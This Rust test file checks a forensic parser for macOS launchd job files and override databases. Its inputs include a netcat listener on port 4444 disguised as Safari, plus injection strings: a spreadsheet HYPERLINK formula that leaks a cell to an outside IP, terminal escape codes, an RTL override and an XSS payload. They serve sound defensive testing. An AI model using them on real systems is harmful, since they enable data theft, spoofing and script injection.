//! Launchd property lists: keys, claims, damage; override databases.

mod arguments;
mod scripts;
mod sockets;

use crate::support::{claim, fixture, fixture_bytes, parse, rendered};
use portolan::artifacts::Emitter;
use portolan::model::observation::{Fact, ProblemKind};
use portolan::model::service::{DeclaredPort, Job};
use std::fmt::Write;

const ID: &str = "launchd-plist";
const PATH: &str = "Library/LaunchDaemons/org.example.plist";

/// The job of a property list with these entries.
fn job(entries: &str) -> Job {
    only_job(&emitted(entries))
}

fn emitted(entries: &str) -> Emitter {
    let head = "<?xml version=\"1.0\" encoding=\"UTF-8\"?>\n<plist version=\"1.0\"><dict>";
    let label = "<key>Label</key><string>org.example</string>";
    parse(ID, PATH, format!("{head}{label}{entries}</dict></plist>").as_bytes())
}

fn only_job(out: &Emitter) -> Job {
    let [one] = out.observations.as_slice() else { panic!("{:?}", out.observations) };
    match &one.fact {
        Fact::Job(job) => (**job).clone(),
        other => panic!("{other:?}"),
    }
}

fn label_of(bytes: &[u8]) -> String {
    only_job(&parse(ID, PATH, bytes)).label.to_string()
}

/// A port as a line: `listen tcp 4 127.0.0.1 8080 medium`.
fn line(port: &DeclaredPort) -> String {
    let number = port.port.number().map(|number| number.to_string());
    let name = port.service_name.as_ref().map(ToString::to_string);
    [
        port.direction.as_str(),
        port.protocol.map_or("?", |protocol| protocol.as_str()),
        port.families.as_str(),
        &port.address.text(),
        &number.or(name).unwrap_or_else(|| "-".to_owned()),
        port.confidence.as_str(),
    ]
    .map(|part| if part.is_empty() { "?".to_owned() } else { part.to_owned() })
    .join(" ")
}

fn lines(ports: &[DeclaredPort]) -> Vec<String> {
    ports.iter().map(line).collect()
}

#[test]
fn every_fixture_reads_as_its_snapshot_says() {
    let mut names: Vec<_> = std::fs::read_dir(fixture("launchd-plist"))
        .unwrap()
        .map(|entry| entry.unwrap().file_name().into_string().unwrap())
        .collect();
    names.sort();
    let mut text = String::new();
    for name in names {
        let out = parse(ID, PATH, &fixture_bytes(&format!("launchd-plist/{name}")));
        writeln!(text, "== {name}\n{}", rendered(&out)).unwrap();
    }
    insta::assert_snapshot!(text);
}

#[test]
fn every_key_of_a_job_is_read() {
    let job = job("<key>Program</key><string>/opt/a/b</string>\
        <key>ProgramArguments</key><array><string>other</string><string>-v</string><integer>7</integer></array>\
        <key>UserName</key><string>_example</string><key>RunAtLoad</key><true/>\
        <key>KeepAlive</key><dict><key>Crashed</key><true/></dict>\
        <key>inetdCompatibility</key><dict><key>Wait</key><true/></dict>\
        <key>Disabled</key><true/><key>StartInterval</key><integer>300</integer>\
        <key>WatchPaths</key><array><string>/etc</string></array><key>StartOnMount</key><false/>\
        <key>MachServices</key><dict><key>org.example</key><true/></dict>");
    assert_eq!(&*job.label, "org.example");
    assert_eq!(job.program.as_deref(), Some("/opt/a/b"));
    assert_eq!(job.arguments.iter().map(|word| &**word).collect::<Vec<_>>(), ["other", "-v", "7"]);
    assert_eq!(job.user.as_deref(), Some("_example"));
    assert!(job.run_at_load && job.keep_alive);
    assert_eq!((job.inetd_wait, job.disabled), (Some(true), Some(true)));
    assert_eq!(job.triggers, ["StartInterval", "WatchPaths"]);
    assert!(!job.partial && job.declared.is_empty());
}

#[test]
fn booleans_may_be_words_or_numbers() {
    for (value, expected) in [
        ("<true/>", true),
        ("<string>YES</string>", true),
        ("<string>true</string>", true),
        ("<integer>1</integer>", true),
        ("<false/>", false),
        ("<string>no</string>", false),
        ("<integer>0</integer>", false),
    ] {
        let job = job(&format!("<key>RunAtLoad</key>{value}<key>Disabled</key>{value}"));
        assert_eq!((job.run_at_load, job.disabled), (expected, Some(expected)), "{value}");
    }
    let odd = emitted("<key>RunAtLoad</key><string>perhaps</string>");
    assert_eq!(odd.problems[0].detail, "RunAtLoad is no boolean");
}

#[test]
fn disabled_by_conditions_is_unknown_and_on_demand_false_keeps_alive() {
    let conditional =
        job("<key>Disabled</key><dict><key>#IfFeatureFlagDisabled</key><string>x</string></dict>");
    assert_eq!(conditional.disabled, None);
    assert!(job("<key>OnDemand</key><false/>").keep_alive);
    assert!(!job("<key>OnDemand</key><true/>").keep_alive);
    assert!(!job("<key>KeepAlive</key><false/>").keep_alive);
}

#[test]
fn inetd_without_wait_does_not_wait() {
    assert_eq!(job("<key>inetdCompatibility</key><dict/>").inetd_wait, Some(false));
    assert_eq!(job("").inetd_wait, None);
}

#[test]
fn the_program_counts_where_the_first_argument_lies() {
    let lie = job("<key>Program</key><string>/usr/bin/nc</string>\
        <key>ProgramArguments</key><array><string>Safari</string><string>-l</string><string>4444</string></array>");
    assert_eq!(lines(&lie.declared), ["listen tcp ? ? 4444 high"]);
}

#[test]
fn without_a_label_only_what_declares_something_is_a_job() {
    let head = "<plist version=\"1.0\"><dict>";
    let with = format!("{head}<key>Program</key><string>/opt/x</string></dict></plist>");
    let out = parse(ID, PATH, with.as_bytes());
    assert_eq!(&*only_job(&out).label, "");
    assert!(out.problems[0].detail.contains("no Label"));
    let without = format!("{head}<key>Version</key><integer>4</integer></dict></plist>");
    let out = parse(ID, PATH, without.as_bytes());
    assert!(out.observations.is_empty());
    assert!(out.problems[0].detail.contains("no Label"));
}

#[test]
fn labels_are_kept_to_the_letter() {
    let long = "com.example.".repeat(350);
    for label in [
        "=HYPERLINK(\"http://203.0.113.9/?\"&A1,\"ok\")",
        "+1+1",
        "\t=1+1",
        "a\r\n=2+2",
        "x\u{1b}]0;pwn\u{7}\u{1b}[2J",
        "com.apple.\u{202e}gnp.x",
        "<img src=x onerror=alert(1)>",
        " a|b`c` ",
        "\u{1f4a3}",
        &long,
    ] {
        let mut escaped = String::new();
        for c in label.chars() {
            write!(escaped, "&#{};", u32::from(c)).unwrap();
        }
        let xml = format!(
            "<plist><dict><key>Label</key><string>{escaped}</string><key>Program</key><string>/x</string></dict></plist>"
        );
        assert_eq!(label_of(xml.as_bytes()), label);
        // The same where a bad date sends the file to the repairing reader.
        let repaired = xml.replace("<dict>", "<dict><key>D</key><date>never</date>");
        assert_eq!(label_of(repaired.as_bytes()), label);
        let quoted = serde_json::to_string(label).unwrap();
        assert_eq!(
            label_of(format!("{{\"Label\": {quoted}, \"Program\": \"/x\"}}").as_bytes()),
            label
        );
    }
}

#[test]
fn bytes_that_are_no_text_cost_no_label() {
    let mut bytes = b"<plist><dict><key>Label</key><string>org.example</string><key>ProgramArguments</key><array><string>/opt/\xff\xfe</string></array></dict></plist>".to_vec();
    let out = parse(ID, PATH, &bytes);
    assert_eq!(&*only_job(&out).arguments[0], "/opt/\u{fffd}\u{fffd}");
    assert!(out.problems[0].detail.contains("not UTF-8"));
    bytes.truncate(60);
    assert_eq!(label_of(b"<plist><dict><key>Label</key><string>org.example</string><key>Program</key><string>/x</st"), "org.example");
}

#[test]
fn a_cut_job_is_partial() {
    let out = parse(ID, PATH, &fixture_bytes("launchd-plist/cut-in-the-arguments.plist"));
    let job = only_job(&out);
    assert!(job.partial && out.partial);
    assert_eq!(out.problems[0].kind, ProblemKind::Truncated);
}

#[test]
fn what_holds_no_dictionary_ends_with_a_sentence() {
    for bytes in [&b"<plist><array/></plist>"[..], b"", b"garbage", b"bplist00"] {
        let out = parse(ID, PATH, bytes);
        assert!(out.observations.is_empty());
        assert!(out.notes[0].starts_with("ended with: "), "{:?}", out.notes);
    }
}

#[test]
fn a_configuration_file_is_noted_and_not_read() {
    let out = emitted(
        "<key>ProgramArguments</key><array><string>/opt/x</string><string>-c</string><string>/opt/x.conf</string></array>",
    );
    assert_eq!(out.notes, ["ports may be set in \"/opt/x.conf\", which the job reads"]);
}

#[test]
fn every_folder_of_launchd_is_claimed() {
    let xml = b"<plist version=\"1.0\"><dict><key>Label</key><string>a</string></dict></plist>";
    for path in [
        "System/Library/LaunchDaemons/ssh.plist",
        "System/Library/LaunchAgents/com.example.plist",
        "Library/Apple/System/Library/LaunchDaemons/com.example.plist",
        "Library/LaunchDaemons/.hidden.plist",
        "uac-x/[root]/Library/LaunchAgents/a.plist",
        "Users/mei/Library/LaunchAgents/a.plist",
        "Applications/A.app/Contents/Library/LaunchDaemons/a.plist",
        "Applications/A.app/Contents/Library/LaunchAgents/a.plist",
        "Applications/A.app/Contents/Library/LoginItems/a.plist",
        "private/var/db/com.apple.xpc.launchd/config/a.plist",
    ] {
        for bytes in [&xml[..], b"bplist00...", b"{ Label = a; }", b"\xff\xfe<\0p\0l\0i\0s\0t\0"] {
            assert_eq!(claim(path, bytes).as_deref(), Some(ID), "{path}");
        }
        assert_eq!(claim(path, b"\0\0\0\0").as_deref(), Some(ID), "{path}");
    }
}

#[test]
fn a_job_anywhere_is_claimed_by_its_content() {
    let xml = b"<plist><dict>\n<key>Label</key><string>a</string><key>Sockets</key><dict/>";
    let binary = b"bplist00\xd2\x01\x02\x03\x04ULabel_\x10\x10ProgramArguments";
    let wide: Vec<u8> = "<plist><key>Label</key><key>Program</key>"
        .encode_utf16()
        .flat_map(u16::to_le_bytes)
        .collect();
    for bytes in [
        &xml[..],
        binary,
        &wide,
        b"{ Label = a; Program = \"/x\"; }",
        b"{\"Label\": 1, \"MachServices\": 2}",
    ] {
        assert_eq!(claim("private/tmp/x.plist", bytes).as_deref(), Some(ID));
    }
    for bytes in [
        &b"<plist><dict><key>Label</key>"[..],
        b"bplist00ULabel",
        b"<html>Label Program</html>",
        b"{ Label = a; }",
    ] {
        assert_eq!(claim("private/tmp/x.plist", bytes), None);
    }
}

#[test]
fn companions_of_apple_double_and_deeper_folders_are_not_jobs() {
    assert_eq!(claim("Library/LaunchDaemons/._a.plist", b"\0\x05\x16\x07\0\x02"), None);
    assert_eq!(claim("Library/LaunchDaemons/a.txt", b"text"), None);
    let info = b"<plist><dict><key>CFBundleName</key>";
    assert_eq!(claim("A.app/Contents/Library/LoginItems/B.app/Contents/Info.plist", info), None);
}

const DATABASE: &str = "private/var/db/com.apple.xpc.launchd/disabled";

#[test]
fn overrides_say_disabled_for_true() {
    let out = parse(
        "launchd-overrides",
        &format!("{DATABASE}.plist"),
        &fixture_bytes("launchd-overrides/disabled.plist"),
    );
    insta::assert_snapshot!(rendered(&out), @r#"
     Undated OverridesRead(System)
     Undated Override { domain: System, label: "org.example.relay", disabled: Some(false) }
     Undated Override { domain: System, label: "org.example.beacon", disabled: Some(true) }
     Undated Override { domain: System, label: "org.example.word", disabled: Some(true) }
     Undated Override { domain: System, label: "org.example.odd", disabled: None }
    problem MalformedRecord: the override of "org.example.odd" is not understood
    "#);
}

#[test]
fn overrides_of_a_user_say_so() {
    let path = format!("{DATABASE}.501.plist");
    let out = parse("launchd-overrides", &path, &fixture_bytes("launchd-overrides/one-user.plist"));
    insta::assert_snapshot!(rendered(&out), @r#"
     Undated OverridesRead(User(501))
     Undated Override { domain: User(501), label: "org.example.tides", disabled: Some(true) }
     Undated Override { domain: User(501), label: "org.example.moon", disabled: Some(false) }
    "#);
}

#[test]
fn the_path_of_an_override_database_tells_its_domain() {
    let legacy = "private/var/db/launchd.db/com.apple.launchd";
    for (path, domain) in [
        (format!("{DATABASE}.plist"), "System"),
        (format!("uac/[root]/{DATABASE}.502.plist"), "User(502)"),
        (format!("{legacy}/overrides.plist"), "System"),
        (format!("{legacy}.peruser.501/overrides.plist"), "User(501)"),
    ] {
        let bytes = b"<plist><dict><key>org.example</key><dict><key>Disabled</key><true/></dict></dict></plist>";
        assert_eq!(claim(&path, bytes).as_deref(), Some("launchd-overrides"), "{path}");
        let text = rendered(&parse("launchd-overrides", &path, bytes));
        assert!(text.contains(&format!("OverridesRead({domain})")), "{text}");
        assert!(text.contains("disabled: Some(true)"), "{text}");
    }
    for path in [
        "private/var/db/com.apple.xpc.launchd/loginitems.501.plist",
        "tmp/disabled.plist",
        "tmp/overrides.plist",
    ] {
        assert_eq!(claim(path, b"bplist00"), None, "{path}");
    }
}

#[test]
fn a_cut_override_database_does_not_vouch_for_what_it_lacks() {
    let out = parse(
        "launchd-overrides",
        &format!("{DATABASE}.501.plist"),
        &fixture_bytes("launchd-overrides/cut.plist"),
    );
    assert!(out.partial);
    assert!(!rendered(&out).contains("OverridesRead"));
    assert!(rendered(&out).contains("label: \"org.example.relay\", disabled: Some(true)"));
}

#[test]
fn a_copy_as_json_is_a_job_and_a_record_that_holds_one_is_not() {
    let job = "{\"Label\":\"com.quay.quayd\",\"ProgramArguments\":[\"/opt/quay/quayd\",\"a \\\"{\\\"\"],\
               \"Sockets\":{\"Listeners\":{\"SockServiceName\":\"8123\"}}}";
    assert_eq!(
        claim("export/com.quay.quayd.json", job.as_bytes()).as_deref(),
        Some("launchd-plist")
    );
    for record in [
        format!("{{\"OSPath\":\"/Library/x.plist\",\"LaunchdConfig\":{job}}}"),
        format!("[{job}]"),
        "{\"Label\":\"a\",\"value\":{\"Program\":\"/bin/sh\"}}".to_owned(),
    ] {
        assert_eq!(claim("export/rows.json", record.as_bytes()), None, "{record}");
    }
    let out = parse("launchd-plist", "export/com.quay.quayd.json", job.as_bytes());
    assert!(out.problems.is_empty(), "{:?}", out.problems);
    let jobs = out.observations.iter().filter(|seen| matches!(seen.fact, Fact::Job(_))).count();
    assert_eq!(jobs, 1);
}
